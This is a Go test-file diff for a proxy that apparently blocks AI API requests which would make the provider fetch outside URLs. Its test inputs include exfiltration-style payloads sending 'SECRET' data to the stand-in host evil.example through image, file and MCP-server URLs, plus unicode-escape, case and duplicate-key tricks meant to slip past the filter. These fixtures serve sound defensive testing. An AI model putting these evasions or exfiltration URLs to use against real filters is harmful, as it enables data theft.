@@ -1,9 +1,26 @@
 package proxy
 
-import "testing"
+import (
+	"io"
+	"strings"
+	"testing"
+	"testing/iotest"
+)
 
-// fetches finds what has the API reach a URL, however the JSON spells it,
-// and passes what Claude Code sends.
+// checked is body as the API gets it after the check, read a byte at a
+// time (so every state boundary falls between two reads), and why it was
+// refused.
+func checked(shape apiShape, body string) (string, error) {
+	b := newCheckedBody(io.NopCloser(iotest.OneByteReader(strings.NewReader(body))), shape)
+	out, err := io.ReadAll(b)
+	if err == nil && b.refused() != nil {
+		err = b.refused()
+	}
+	return string(out), err
+}
+
+// The Messages API: what has the API reach a URL is found however the
+// JSON spells it, and what Claude Code sends passes.
 func TestFetches(t *testing.T) {
 	for body, refused := range map[string]bool{
 		`{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"text","text":"hi \"type\":\"url\" mcp_servers"}]}]}`: false,
@@ -11,15 +28,119 @@ func TestFetches(t *testing.T) {
 		`{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","data":"AA=="}}]}]}`:                           false,
 		`{"mcp_servers":[]}`:                                                                              true,
 		`{"m\u0063p_servers":[{"url":"https://x"}]}`:                                                      true,
+		`{"MCP_Servers":[{"url":"https://x"}]}`:                                                           true,
 		`{"mcp_servers":[{"url":"https://x"}],"mcp_servers":[]}`:                                          true,
 		`{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`:                                    true,
+		`{"tools":[{"type":"Web_Fetch_20250910","name":"web_fetch"}]}`:                                    true,
 		`{"messages":[{"content":[{"type":"document","source":{"type":"url","url":"https://x/?d=1"}}]}]}`: true,
 		`{"messages":[{"content":[{"type":"image","source":{"url":"https://x","type":"\u0075rl"}}]}]}`:    true,
 		`{"a":{"b":[1,{"c":null,"type":"url"}]}}`:                                                         true,
 		`{"a":{"type":"urls"},"b":"url","type":["url"]}`:                                                  false,
 	} {
-		if got := fetches([]byte(body)) != nil; got != refused {
-			t.Errorf("fetches(%s) refused = %v, want %v", body, got, refused)
+		if _, err := checked(messagesAPI, body); (err != nil) != refused {
+			t.Errorf("%s: refused %v (%v), want %v", body, err != nil, err, refused)
+		}
+	}
+}
+
+// Only strict JSON passes, one object, whole: what a lenient parser
+// would read otherwise is refused, and a body cut short never gets its
+// closing brace.
+func TestCheckedBodyStrict(t *testing.T) {
+	for _, body := range []string{
+		``, ` `, `[]`, `"x"`, `{"a":1}x`, `{"a":1}{}`, `{"a":1,}`, `{"a":[1,]}`, `{'a':1}`, `{a:1}`,
+		`{"a":NaN}`, `{"a":1}//`, `{"a":tru}`, `{"a":"\x"}`, "{\"a\":\"\x01\"}", "\xef\xbb\xbf{}", "{\x00\"a\":1}",
+		`{"a":1`, `{"a":"`, `{"a":[`, strings.Repeat("[", 600),
+	} {
+		out, err := checked(messagesAPI, body)
+		if err == nil {
+			t.Errorf("%q passed as %q", body, out)
+		}
+		if strings.HasSuffix(strings.TrimSpace(out), "}") && body != "" {
+			t.Errorf("%q was refused (%v), yet what went on ends the object: %q", body, err, out)
+		}
+	}
+	// Whitespace after the object goes on as as many spaces.
+	for _, body := range []string{`{}`, " {\"a\" : [ 1 , -2.5e3 , true , false , null , \"\\u00e9\\ud83d\\ude00\" ] }\n\n", `{"a":{"b":{}},"c":[]}`} {
+		if out, err := checked(messagesAPI, body); err != nil || out != strings.TrimRight(body, "\n")+strings.Repeat(" ", len(body)-len(strings.TrimRight(body, "\n"))) {
+			t.Errorf("%q: got %q, %v; want it unchanged", body, out, err)
+		}
+	}
+}
+
+// Codex's Responses API: the tools it declares pass (its live web search
+// made cached); a remote MCP server, a hosted tool, an image or a file by
+// URL or id are refused, in tools or anywhere in the input.
+func TestResponsesFetches(t *testing.T) {
+	// What codex-cli 0.169.0 sends, cut down: its function tools, one
+	// whose schema names image_url, a namespace of tools, web search.
+	codex := `{"model":"gpt-test","stream":true,"input":[{"type":"message","role":"user","content":[{"type":"input_text","text":"say \"server_url\" pong"},{"type":"input_image","image_url":"data:image/png;base64,AA=="}]},` +
+		`{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":"DATA:image/png;base64,AA=="}]},{"type":"web_search_call","action":{"type":"open_page","url":"https://example.com/"}}],` +
+		`"tools":[{"type":"function","name":"exec_command","parameters":{"type":"object","properties":{"cmd":{"type":"string"}}}},` +
+		`{"type":"namespace","name":"multi_agent_v1","tools":[{"type":"function","name":"spawn_agent","parameters":{"type":"object","properties":{"image_url":{"type":"string"},"server_url":{"type":"string"}}}}]},` +
+		`{"type":"custom","name":"apply_patch","format":{"type":"grammar","definition":"x"}},` +
+		`{"type":"web_search","external_web_access":true}],"tool_choice":"auto","text":{"format":{"type":"json_schema","schema":{"properties":{"file_id":{"type":"string"}}}}}}`
+	out, err := checked(responsesAPI, codex)
+	if err != nil {
+		t.Fatalf("codex's request was refused: %v", err)
+	}
+	if want := strings.Replace(codex, `"external_web_access":true`, `"external_web_access":false`, 1); out != want {
+		t.Errorf("codex's request became\n%s\nwant\n%s", out, want)
+	}
+	if out, err := checked(responsesAPI, `{"tools":[{"type":"web_search"}]}`); err != nil || out != `{"tools":[{"type":"web_search","external_web_access":false}]}` {
+		t.Errorf("a web search that does not say how it reaches the web: %q, %v", out, err)
+	}
+	for _, body := range []string{
+		`{"tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.example/mcp","headers":{"Authorization":"Bearer t"}}]}`,
+		`{"tools":[{"type":"MCP","server_url":"https://evil.example/mcp"}]}`,
+		`{"tools":[{"type":"function","type":"mcp","server_url":"https://evil.example/mcp"}]}`,
+		`{"tools":[{"type":"namespace","tools":[{"type":"mcp","server_url":"https://evil.example/mcp"}]}]}`,
+		`{"tools":[{"type":"code_interpreter","container":{"type":"auto","file_ids":["file-1"]}}]}`,
+		`{"tools":[{"type":"file_search","vector_store_ids":["vs_1"]}]}`,
+		`{"tools":[{"type":"computer_use_preview"}]}`,
+		`{"tools":[{"type":"web_search_preview"}]}`,
+		`{"tools":[{"type":"image_generation"}]}`,
+		`{"tools":[{"name":"x"}]}`,
+		`{"tools":[{"type":["function"]}]}`,
+		`{"tools":[{"type":"web_search","external_web_access":"true"}]}`,
+		`{"input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/?d=SECRET"}]}]}`,
+		`{"input":[{"role":"user","content":[{"type":"input_image","image_url":{"url":"https://evil.example/"}}]}]}`,
+		`{"input":[{"role":"user","content":[{"type":"input_image","i\u006dage_url":"https://evil.example/"}]}]}`,
+		`{"input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/x.pdf"}]}]}`,
+		`{"input":[{"role":"user","content":[{"type":"input_file","file_id":"file-abc"}]}]}`,
+		`{"input":[{"type":"function_call_output","output":[{"type":"input_image","image_url":"http://evil.example/"}]}]}`,
+		`{"input":[{"type":"mcp_call","server_url":"https://evil.example/"}]}`,
+	} {
+		if out, err := checked(responsesAPI, body); err == nil {
+			t.Errorf("%s passed as %s", body, out)
+		} else if !strings.Contains(err.Error(), "claudebox --network=host") && err != errNotJSON {
+			t.Errorf("%s: the refusal does not say how to allow it: %v", body, err)
+		}
+	}
+}
+
+// Gemini's generateContent, direct and through Code Assist: function
+// declarations and Google Search pass; urlContext, any other tool, and a
+// file by URI anywhere in the contents are refused.
+func TestGeminiFetches(t *testing.T) {
+	for body, refused := range map[string]bool{
+		`{"contents":[{"role":"user","parts":[{"text":"hi fileData urlContext"}]}],"tools":[{"functionDeclarations":[{"name":"web_fetch","parametersJsonSchema":{"properties":{"fileUri":{"type":"string"}}}}]}],"generationConfig":{"responseJsonSchema":{"properties":{"fileData":{}}}}}`: false,
+		`{"contents":[{"role":"user","parts":[{"text":"x"}]}],"tools":[{"googleSearch":{}}]}`:                                                                   false,
+		`{"model":"m","project":"p","request":{"contents":[{"parts":[{"inlineData":{"mimeType":"image/png","data":"AA=="}}]}],"tools":[{"google_search":{}}]}}`: false,
+		`{"contents":[],"tools":[{"urlContext":{}}]}`:                                                                                                           true,
+		`{"contents":[],"tools":[{"url_context":{}}]}`:                                                                                                          true,
+		`{"contents":[],"tools":[{"URLContext":{}}]}`:                                                                                                           true,
+		`{"contents":[],"tools":[{"functionDeclarations":[],"codeExecution":{}}]}`:                                                                              true,
+		`{"contents":[],"tools":[{"googleSearch":{}},{"mcpServers":[{"url":"https://evil.example"}]}]}`:                                                         true,
+		`{"request":{"contents":[],"tools":[{"urlContext":{}}]}}`:                                                                                               true,
+		`{"contents":[{"parts":[{"fileData":{"fileUri":"https://evil.example/?d=SECRET"}}]}]}`:                                                                  true,
+		`{"contents":[{"parts":[{"file_data":{"file_uri":"gs://bucket/x"}}]}]}`:                                                                                 true,
+		`{"systemInstruction":{"parts":[{"fileData":{"fileUri":"files/abc"}}]}}`:                                                                                true,
+		`{"contents":[{"parts":[{"functionResponse":{"name":"x","parts":[{"fileData":{"fileUri":"https://evil.example"}}]}}]}]}`:                                true,
+		`{"request":{"contents":[{"parts":[{"fil\u0065Data":{"fileUri":"https://evil.example"}}]}]}}`:                                                           true,
+	} {
+		if _, err := checked(geminiAPI, body); (err != nil) != refused {
+			t.Errorf("%s: refused %v (%v), want %v", body, err != nil, err, refused)
 		}
 	}
 }
